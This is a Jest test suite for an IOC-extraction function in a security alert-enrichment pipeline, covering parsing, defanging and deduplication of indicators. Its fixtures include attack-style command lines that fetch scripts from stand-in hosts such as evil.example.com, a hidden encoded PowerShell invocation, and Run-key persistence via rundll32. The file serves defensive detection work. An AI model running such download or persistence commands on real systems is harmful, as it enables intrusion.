import { extractIocs, isPublicDomain } from '../../../lambdas/core/enrich';
import type { Ioc } from '../../../lambdas/core/model/enrichment';
import {
  ENCODED_COMMAND,
  benignDnsAlert,
  encodedPowerShellAlert,
  lsassAccessAlert,
  makeAlert,
  procsrvConnectAlert,
  procsrvRunKeyAlert,
  runKeyAlert,
} from './factories';

const find = (iocs: Ioc[], type: Ioc['type'], value: string): Ioc | undefined =>
  iocs.find((i) => i.type === type && i.value.toLowerCase() === value.toLowerCase());

describe('extractIocs: structured fields', () => {
  it('takes the reference Run key: registry value, value data, the DLL it loads, the writer’s command line', () => {
    const iocs = extractIocs(runKeyAlert());
    expect(iocs.map((i) => [i.type, i.value, i.role])).toEqual([
      ['file', 'C:\\ProgramData\\Microsoft\\Drivers\\security.dll', 'process command line; registry value data'],
      ['registry', 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WindowsSecurityUpdate', 'registry value'],
      ['commandline', runKeyAlert().process?.commandLine, 'process command line'],
      [
        'commandline',
        'C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Microsoft\\Drivers\\security.dll,UpdateNow',
        'registry value data',
      ],
    ]);
  });

  it('does not report Windows’ own binaries as file indicators', () => {
    const iocs = extractIocs(runKeyAlert());
    expect(find(iocs, 'file', 'C:\\Windows\\System32\\rundll32.exe')).toBeUndefined();
    expect(find(iocs, 'file', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe')).toBeUndefined();
    expect(find(iocs, 'file', 'C:\\Windows\\explorer.exe')).toBeUndefined();
  });

  it('reports an unknown binary in System32 and the DLL its Run value loads', () => {
    const iocs = extractIocs(procsrvRunKeyAlert());
    expect(find(iocs, 'file', 'C:\\Windows\\System32\\procsrv.exe')?.role).toBe('process image');
    expect(find(iocs, 'file', 'C:\\Windows\\System32\\lanman.dll')?.role).toBe('registry value data');
    expect(
      find(
        iocs,
        'registry',
        'HKU\\S-1-5-21-3940915590-64593676-1414006259-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Local Network Manager',
      ),
    ).toBeDefined();
  });

  it('gives network indicators a role, a port and whether they are private', () => {
    const iocs = extractIocs(procsrvConnectAlert());
    expect(find(iocs, 'ipv4', '162.125.6.18')).toEqual({
      type: 'ipv4',
      value: '162.125.6.18',
      defanged: '162.125.6[.]18',
      role: 'network destination',
      private: false,
      port: 443,
    });
    // Outbound, the source is the victim itself: never an indicator against it.
    expect(find(iocs, 'ipv4', '10.10.3.5')).toBeUndefined();
  });

  it('keeps the source port of an inbound connection', () => {
    const iocs = extractIocs(
      procsrvConnectAlert({
        network: { direction: 'inbound', srcIp: '194.165.16.89', srcPort: 4444, dstIp: '10.10.3.5', dstPort: 3389 },
      }),
    );
    expect(find(iocs, 'ipv4', '194.165.16.89')?.port).toBe(4444);
    // The destination of an inbound connection is the host's own address.
    expect(find(iocs, 'ipv4', '10.10.3.5')).toBeUndefined();
  });

  it('marks loopback, link-local, CGNAT, multicast, unspecified and ULA addresses private', () => {
    const ips = ['127.0.0.1', '169.254.10.1', '100.64.0.7', '224.0.0.251', '0.0.0.0', 'fd12:3456::1', 'fe80::1'];
    for (const ip of ips) {
      const iocs = extractIocs(procsrvConnectAlert({ network: { dstIp: ip, dstPort: 443 } }));
      expect(iocs.find((i) => i.value === ip)?.private).toBe(true);
    }
    const pub = extractIocs(procsrvConnectAlert({ network: { dstIp: '2606:4700::6810:84e5', dstPort: 443 } }));
    expect(find(pub, 'ipv6', '2606:4700::6810:84e5')).toMatchObject({
      private: false,
      defanged: '2606:4700[:]:6810:84e5',
    });
  });

  it('takes a public DNS query and the addresses it resolved to', () => {
    const iocs = extractIocs(
      makeAlert({
        eventType: 'dns_query',
        dns: { query: 'www.dropbox.com', results: ['type:  5 www.dropbox-dns.com', '::ffff:162.125.6.18'] },
      }),
    );
    expect(iocs.map((i) => [i.type, i.defanged, i.role])).toEqual([
      ['ipv4', '162.125.6[.]18', 'dns answer'],
      ['domain', 'www[.]dropbox[.]com', 'dns query'],
      ['domain', 'www[.]dropbox-dns[.]com', 'dns answer'],
    ]);
  });

  it('skips a query for an internal name that has no public suffix', () => {
    const iocs = extractIocs(benignDnsAlert());
    expect(iocs.some((i) => i.type === 'domain')).toBe(false);
    expect(find(iocs, 'ipv4', '10.20.30.40')).toMatchObject({ private: true, role: 'dns answer' });
  });

  it('takes MD5, SHA-1 and SHA-256 of files and modules but not imphash', () => {
    const md5 = 'd41d8cd98f00b204e9800998ecf8427e';
    const sha1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
    const sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
    const iocs = extractIocs(
      makeAlert({
        eventType: 'file_create',
        eventCode: 11,
        file: {
          path: 'C:\\Users\\Public\\scanner.exe',
          hashes: { md5, sha256, imphash: 'a'.repeat(16) + '1'.repeat(16) },
        },
        module: { path: 'C:\\ProgramData\\x\\loader.dll', hashes: { sha1: sha1.toUpperCase() } },
      }),
    );
    expect(
      iocs.filter((i) => ['md5', 'sha1', 'sha256'].includes(i.type)).map((i) => [i.type, i.value, i.role]),
    ).toEqual([
      ['md5', md5, 'file hash'],
      ['sha1', sha1, 'module hash'],
      ['sha256', sha256, 'file hash'],
    ]);
    expect(find(iocs, 'file', 'C:\\Users\\Public\\scanner.exe')?.role).toBe('file created');
    expect(find(iocs, 'file', 'C:\\ProgramData\\x\\loader.dll')?.role).toBe('module loaded');
  });

  it('leaves out the hashes of a stock Windows process image', () => {
    const iocs = extractIocs(
      makeAlert({
        process: { image: 'C:\\Windows\\System32\\cmd.exe', hashes: { md5: 'd41d8cd98f00b204e9800998ecf8427e' } },
      }),
    );
    expect(iocs.some((i) => i.type === 'md5')).toBe(false);
  });

  it('takes a scheduled task name and what it runs', () => {
    const iocs = extractIocs(
      makeAlert({ task: { name: '\\Updater', action: 'C:\\Users\\q\\AppData\\Local\\upd.exe /silent' } }),
    );
    expect(find(iocs, 'task', '\\Updater')?.role).toBe('scheduled task');
    expect(find(iocs, 'commandline', 'C:\\Users\\q\\AppData\\Local\\upd.exe /silent')?.role).toBe(
      'scheduled task action',
    );
    expect(find(iocs, 'file', 'C:\\Users\\q\\AppData\\Local\\upd.exe')?.role).toBe('scheduled task action');
  });

  it('maps an EDR’s evidence artifacts to IOC types and drops the ones that are not indicators', () => {
    const iocs = extractIocs(
      makeAlert({
        eventType: 'detection',
        artifacts: [
          { type: 'ip', value: '194.165.16.89', role: 'c2' },
          { type: 'domain', value: 'evil.example.com' },
          { type: 'domain', value: 'not a domain' },
          { type: 'hash', value: 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855' },
          { type: 'user', value: 'jwilliams' },
          { type: 'email', value: 'phish@evil.example.com' },
          { type: 'process', value: 'powershell.exe -enc AAAA' },
        ],
      }),
    );
    expect(iocs.map((i) => [i.type, i.value, i.role])).toEqual([
      // The source's own label is quoted: its words, not the pipeline's.
      ['ipv4', '194.165.16.89', 'evidence labelled \u201cc2\u201d'],
      ['domain', 'evil.example.com', 'evidence'],
      ['sha256', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', 'evidence'],
      ['commandline', 'powershell.exe -enc AAAA', 'evidence'],
    ]);
  });
});

describe('extractIocs: free text', () => {
  it('finds URLs, their hosts and addresses with ports in a command line, but types no hash from text', () => {
    const sha = 'c3d4e5f6'.repeat(8);
    const iocs = extractIocs(
      makeAlert({
        process: {
          image: 'C:\\Windows\\System32\\cmd.exe',
          commandLine: `cmd /c curl https://evil.example.com/a.ps1 -o x & ping 194.165.16.89:443 & echo ${sha}`,
        },
      }),
    );
    expect(find(iocs, 'url', 'https://evil.example.com/a.ps1')?.defanged).toBe('hxxps://evil[.]example[.]com/a.ps1');
    expect(find(iocs, 'domain', 'evil.example.com')?.defanged).toBe('evil[.]example[.]com');
    expect(find(iocs, 'ipv4', '194.165.16.89')).toMatchObject({ defanged: '194.165.16[.]89', port: 443 });
    // A hex run in text may be a key or a token as well as a hash: hashes come from hash fields only.
    expect(iocs.some((i) => i.value === sha)).toBe(false);
  });

  it('finds IPv6 addresses, bare or as a URL host, but not PowerShell static calls or times', () => {
    const iocs = extractIocs(
      makeAlert({
        process: {
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          commandLine:
            'powershell [Math]::Abs(1); $Dec::Add(2); Start-Sleep 16:30:45; iwr http://[2001:db8::5]/x; ping 2001:db8::8a2e:370:7334',
        },
      }),
    );
    expect(iocs.filter((i) => i.type === 'ipv6').map((i) => i.value)).toEqual([
      '2001:db8::5',
      '2001:db8::8a2e:370:7334',
    ]);
    expect(find(iocs, 'url', 'http://[2001:db8::5]/x')?.defanged).toBe('hxxp://[2001:db8[:]:5]/x');
  });

  it('tells file names from domains: security.dll and rundll32.exe are not domains, www.dropbox.com is', () => {
    const iocs = extractIocs(
      makeAlert({
        process: {
          image: 'C:\\Windows\\System32\\cmd.exe',
          commandLine:
            'cmd /c rundll32.exe security.dll,Run & start scanner.exe & copy invoice.zip x & powershell x.ps1 & echo www.dropbox.com',
        },
      }),
    );
    expect(iocs.filter((i) => i.type === 'domain').map((i) => i.value)).toEqual(['www.dropbox.com']);
  });

  it('keeps a URL whose host ends like a file name', () => {
    const iocs = extractIocs(
      makeAlert({
        process: { image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'curl http://files.example.zip/a' },
      }),
    );
    expect(find(iocs, 'url', 'http://files.example.zip/a')).toBeDefined();
    expect(find(iocs, 'domain', 'files.example.zip')).toBeDefined();
  });

  it('ignores a run of one kind of hex and hashes inside longer words', () => {
    const iocs = extractIocs(
      makeAlert({
        process: {
          image: 'C:\\Windows\\System32\\cmd.exe',
          commandLine: `echo ${'0'.repeat(32)} x${'ab12'.repeat(8)} ${'ab12'.repeat(8)}y`,
        },
      }),
    );
    expect(iocs.filter((i) => i.type === 'md5')).toEqual([]);
  });

  it('reports what a PowerShell -EncodedCommand hides', () => {
    const iocs = extractIocs(encodedPowerShellAlert());
    expect(find(iocs, 'url', 'https://evil.example.com/a.ps1')?.role).toBe('process decoded PowerShell command');
    expect(find(iocs, 'commandline', `powershell.exe -nop -w hidden -enc ${ENCODED_COMMAND}`)).toBeDefined();
  });

  it('does not treat the command line of installed software as an indicator', () => {
    const iocs = extractIocs(
      makeAlert({
        process: {
          image: 'C:\\Windows\\System32\\svchost.exe',
          commandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
        },
      }),
    );
    expect(iocs).toEqual([]);
  });
});

describe('extractIocs: identity and order', () => {
  it('merges one value seen in several places, keeping every role and the first port', () => {
    const iocs = extractIocs(
      procsrvConnectAlert({
        dns: { query: 'x.example.com', results: ['162.125.6.18'] },
      }),
    );
    const ip = iocs.filter((i) => i.value === '162.125.6.18');
    expect(ip).toHaveLength(1);
    expect(ip[0]).toMatchObject({ role: 'network destination; dns answer', port: 443 });
  });

  it('deduplicates case-insensitively', () => {
    const iocs = extractIocs(
      makeAlert({
        file: { path: 'C:\\Users\\Public\\A.exe' },
        artifacts: [{ type: 'file', value: 'c:\\users\\public\\a.exe' }],
      }),
    );
    expect(iocs.filter((i) => i.type === 'file')).toHaveLength(1);
  });

  it('orders by type, then by first appearance, the same way every time', () => {
    const alert = procsrvConnectAlert({ dns: { query: 'www.dropbox.com', results: ['162.125.6.18'] } });
    const first = extractIocs(alert);
    expect(first.map((i) => i.type)).toEqual(['ipv4', 'domain', 'file']);
    expect(extractIocs(alert)).toEqual(first);
  });

  it('returns nothing for an LSASS access beyond the unknown tool that made it', () => {
    expect(extractIocs(lsassAccessAlert()).map((i) => i.value)).toEqual([
      'C:\\Users\\wardog\\Desktop\\Outflank-Dumpert.exe',
    ]);
  });
});

describe('isPublicDomain', () => {
  it('accepts names under a real public suffix', () => {
    expect(isPublicDomain('www.dropbox.com')).toBe(true);
    expect(isPublicDomain('evil.co.uk')).toBe(true);
  });

  it('rejects file names, internal names, .NET types and IPs', () => {
    for (const name of [
      'security.dll',
      'rundll32.exe',
      'invoice.zip',
      'fs01.corp.local',
      'System.Net.WebClient',
      '1.2.3.4',
      'localhost',
    ]) {
      expect(isPublicDomain(name)).toBe(false);
    }
  });
});
